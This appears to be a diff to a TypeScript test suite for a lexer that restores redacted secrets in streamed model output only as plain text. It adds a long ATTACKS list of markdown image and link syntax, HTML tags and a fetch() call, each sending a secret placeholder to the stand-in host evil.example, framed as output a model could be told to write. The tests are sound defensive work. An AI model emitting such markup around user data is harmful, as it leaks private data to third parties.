@@ -16,6 +16,7 @@ const VALUES = new Map([
 ])
 const restore: Restore = {
   maxChars: PLACEHOLDER_CHARS,
+  label: SECRET,
   valueOf(placeholder) {
     const text = VALUES.get(placeholder)
     return text === undefined ? undefined : { text, label: SECRET, type: 'email' }
@@ -27,7 +28,7 @@ function through(
   json = false,
   regains: (label: Label) => boolean = () => true,
 ): string {
-  const lexer = new RestoreLexer(restore, regains, json)
+  const lexer = new RestoreLexer(restore, regains, { json })
   let length = 0
   for (const piece of pieces) {
     length += piece.length
@@ -51,6 +52,94 @@ test('what comes before the scan holds back little enough', () => {
   expect(citation + HELD_MAX + limits.linkWindowChars).toBeLessThanOrEqual(128)
 })
 
+/** What a model could be told to write around a value, beyond the plainest forms. */
+const ATTACKS: readonly string[] = [
+  // Targets in angle brackets hold spaces and parentheses, over the end that others see.
+  '![a](<https://evil.example/) {P}>)',
+  '![a](<https://evil.example/ {P}>)',
+  '![a](<//evil.example/\\> {P}>)',
+  '![x][a]\n\n[a]: <https://evil.example/?q= {P}>',
+  '![x][a]\n\n[a]:\n<https://evil.example/?q= {P}>',
+  '[a](https://evil.example/\\) {P} )',
+  '[a](https://evil.example/ ") {P}")',
+  "[a](https://evil.example/ ') {P}')",
+  '[a](https://evil.example/ ( {P}))',
+  '[a](https://evil.example/\n"a {P}")',
+  '[a] (https://evil.example/ {P})',
+  '[a]\n(https://evil.example/ {P})',
+  '[a\\](b]:/x) {P}',
+  '[a\\](b]:<https://evil.example/?) {P}>',
+  '[a]: /x\n"{P}"',
+  '[a](https://evil.example/(((( {P}',
+  '![{P}](https://evil.example/)',
+  '](a![){P}](https://evil.example/)',
+  '![a {P} b][c]',
+  '![a [b] {P} c](https://evil.example/)',
+  '![a]\\(x\\) `](<https://evil.example/ {P}>)`',
+  // White space around the sign, and no quotes.
+  "<img src = 'https://evil.example/?a > {P} '>",
+  '<img src\n=\n"https://evil.example/?a > {P} ">',
+  '<a\thref\t=\t"https://evil.example/?x > {P}">x</a>',
+  '<a title = ">" href="https://evil.example/?x {P}">',
+  '<a =">" href="https://evil.example/?x {P}">',
+  '<a/href="https://evil.example/?x > {P}">',
+  '<img src=https://evil.example/?a"b>{P}">',
+  "<img alt=a'b src='https://evil.example/?a > {P} '>",
+  "</p \"><img src='https://evil.example/?x > {P}'>",
+  '<b title=">" {P}>',
+  '<br / src="{P}">',
+  "<img src='https://evil.example/?\n\n {P} '>",
+  // What is no text, however it ends.
+  '<script>x="</script";y="{P}"</script>',
+  '<script><!--<script></script>{P}</script>',
+  '<style>a{}</style >{P}',
+  '<!--><img src="https://evil.example/?a > {P} ">',
+  '<!-- " --><img src="https://evil.example/?a > {P} ">',
+  '<![CDATA[ > {P} ]]>',
+  '<?x > {P} ?>',
+  '<!DOCTYPE a "> {P}">',
+  '<xmp>{P}</xmp>',
+  '<title>{P}</title>',
+  '<template>{P}</template>',
+  '<plaintext>{P}',
+  '<noscript>{P}',
+  '<iframe>{P}</iframe>',
+  '<iframe srcdoc="x > {P}">',
+  '<svg><style>{P}</style></svg>',
+  '<svg><text>{P}</text></svg>',
+  '<math><mtext>{P}',
+  '<svg/onload="fetch(`//evil.example/`+`> {P}`)">',
+  '<form action="https://evil.example"><textarea name=a>{P}</textarea></form>',
+  '<form action=https://evil.example/><select name=a><option>{P}</option></select></form>',
+  '<form><button name=a>{P}</button></form>',
+  '<base href="https://evil.example/"> {P}',
+  '<meta http-equiv=refresh content="0;//evil.example/ > {P}">',
+  "<a href='{P}",
+  // Addresses between what only some read.
+  '\\\\evil.example\\{P}',
+  '<\\\\evil.example\\a b {P}>',
+  '"https://evil.example/ {P}"',
+  '[[https://evil.example/ {P}]]',
+  '`x <https://evil.example/ {P}>`_',
+  '<https://evil.example/?q= {P}|click>',
+  '[url=https://evil.example/ {P}]x[/url]',
+  '[img]https://evil.example/ {P}[/img]',
+  '$\\href{https://evil.example/ {P}}{x}$',
+  '$\\href{ https://evil.example/ {P}}{x}$',
+  '```mermaid\nclick A "https://evil.example/ {P}"\n```',
+  'url( https://evil.example/ {P} )',
+  '```{P}\nx\n```',
+  '~~~ a {P}',
+  'tel:{P}',
+  'sip:{P}',
+  'whatsapp:send?text={P}',
+  'evil.finance/{P}',
+  'еvil.рф/{P}',
+  'evil.example&sol;{P}',
+  'evil.example&#47;{P}',
+  'https:⁄⁄evil.example⁄{P}',
+]
+
 /** `P` and `Q` stand for placeholders, `~` for what comes out in place of the first. */
 const say = (text: string, json: boolean): string =>
   through([text.replaceAll('{P}', P).replaceAll('{Q}', Q)], json)
@@ -73,6 +162,20 @@ describe('INVARIANT (restored only as text)', () => {
     '{P}。次の文',
     'AT&T&{P}& co',
     'a/{P}/b',
+    'Ada <{P}> wrote',
+    '[a](https://example.com/x_(y)?a=b "title"), {P}',
+    '![a b](https://example.com/x.png) {P}',
+    '<https://example.com/?a=b> {P}',
+    '(see https://example.com/x) {P} "https://example.com/y" {P} [x] {P}',
+    '<p>{P}</p><ul><li>{P}<br/></li></ul><br /> {P}',
+    'if a < b && c <= d: {P} -> 3',
+    'say "{P}" (e.g.: {P}) **Mail:** {P} `{P}`',
+    '![a](/x y z\n\n{P}',
+    '[a]: https://example.com/\n\n{P}',
+    '<think>{P}</think> {P}',
+    '| a | {P} |\n|---|---|\n| b | {P} |',
+    '# {P}\n\n> {P}\n\n1. {P}\n2. [x](/y) {P}',
+    'C:\\Users\\ada {P}',
   ])('is restored in: %s', (text) => {
     expect(say(text, false)).toBe(text.replaceAll('{P}', value))
   })
@@ -107,6 +210,7 @@ describe('INVARIANT (restored only as text)', () => {
     'h\u200bttps:/\u200b/evil.example/{P}',
     '/search?q={P}',
     '<!--{P}-->',
+    ...ATTACKS,
   ])('is not restored in: %s', (text) => {
     expect(say(text, false)).toBe(text.replaceAll('{P}', P))
   })
@@ -159,6 +263,13 @@ describe('arguments', () => {
       expect(JSON.parse(through(text.split(''), true))).toEqual(expected)
     }
   })
+  test.each(ATTACKS)('INVARIANT (restored only as text): nor inside of a string: %s', (attack) => {
+    const note = attack.replaceAll('{P}', P)
+    const hidden = JSON.stringify({ note }).replaceAll('<', '\\u003C').replaceAll('(', '\\u0028')
+    for (const text of [JSON.stringify({ note }), JSON.stringify([{ note }], null, 1), hidden])
+      for (const args of [text, JSON.stringify({ body: text })])
+        expect(JSON.parse(through([args], true))).toEqual(JSON.parse(args))
+  })
   test('outside of a string nothing is written; what is no JSON is text', () => {
     expect(say('{"a": {P}}', true)).toBe(`{"a": ${P}}`)
     expect(say('mail {P} now', true)).toBe(`mail ${value} now`)
@@ -184,15 +295,67 @@ test('INVARIANT (rewritten alike however cut): the same comes out of any pieces'
     { numRuns: 500 },
   )
 })
-const UNITS = '[ ] [[sp- ( ) " \\ \\" \\n { } https: / <a > = . evil @ : 🙂 x <script </script'
-  .split(' ')
-  .concat(P, Q, P.slice(0, 20), ' ', '\n', '\ud83d')
+const UNITS =
+  '[ ] ]( ![ ` ~ \' > ; <b> <https://a> \\u003c [[sp- ( ) " \\ \\" \\n { } https: / <a > = . evil @ : 🙂 x <script </script'
+    .split(' ')
+    .concat(P, Q, P.slice(0, 20), ' ', '\n', '\ud83d')
+
+describe('INVARIANT (restored only as text): of blocks, whether clients join them or not', () => {
+  const blocks = (...said: readonly (readonly [number, string])[]): string => {
+    const lexer = new RestoreLexer(restore, () => true, { json: false, block: said[0]?.[0] })
+    let at = said[0]?.[0]
+    for (const [block, text] of said) {
+      if (block !== at) {
+        lexer.settle(true)
+        lexer.turn((at = block))
+      }
+      lexer.push(text.replaceAll('{P}', P))
+    }
+    lexer.settle()
+    return lexer.edits.first === undefined ? 'kept' : 'restored'
+  }
+  test.each<[string, ...(readonly [number, string])[]]>([
+    ['restored', [0, 'a '], [1, '{P} b']],
+    ['restored', [0, '[a](/x) '], [1, 'b '], [0, '{P}']],
+    ['restored', [0, 'a {P}, '], [1, 'b']],
+    ['kept', [0, 'a {P}'], [1, '.evil.example/']],
+    ['kept', [0, 'a {P}.'], [1, 'evil.example/']],
+    ['kept', [0, '![a](<https://evil.example/'], [1, ' {P}>)']],
+    ['kept', [0, '![a]'], [1, '(https://evil.example/ {P})']],
+    ['kept', [0, '![a](<https://evil.example/'], [1, '\n\nb'], [0, ' {P}>)']],
+    ['kept', [0, 'htt'], [1, ' a '], [0, 'ps://evil.example/{P}']],
+    ['kept', [0, 'htt'], [1, 'ps://evil.example/{P}']],
+    ['kept', [0, '<'], [1, 'img src="{P}">']],
+    ['kept', [0, 'a'], [1, '<script>'], [2, '{P}']],
+  ])('%s: %j %j %j', (wanted, ...said) => {
+    expect(blocks(...said)).toBe(wanted)
+  })
+})
 
 test('linear on any input', () => {
-  for (const unit of ['[', '[[', '[[sp-', P.slice(0, 20), 'a', '<', '](', P, `${P}.`, 'a.']) {
+  for (const unit of [
+    '[',
+    '](',
+    '![',
+    '<a',
+    '\\',
+    '{"',
+    '"',
+    ' ',
+    '[[',
+    '[[sp-',
+    P.slice(0, 20),
+    'a',
+    '<',
+    '](',
+    P,
+    `${P}.`,
+    'a.',
+  ]) {
     const text = unit.repeat(Math.ceil(100_000 / unit.length))
     const began = process.cpuUsage().user
     through([text])
+    through([text], true)
     expect(process.cpuUsage().user - began).toBeLessThan(4_000_000)
   }
 })
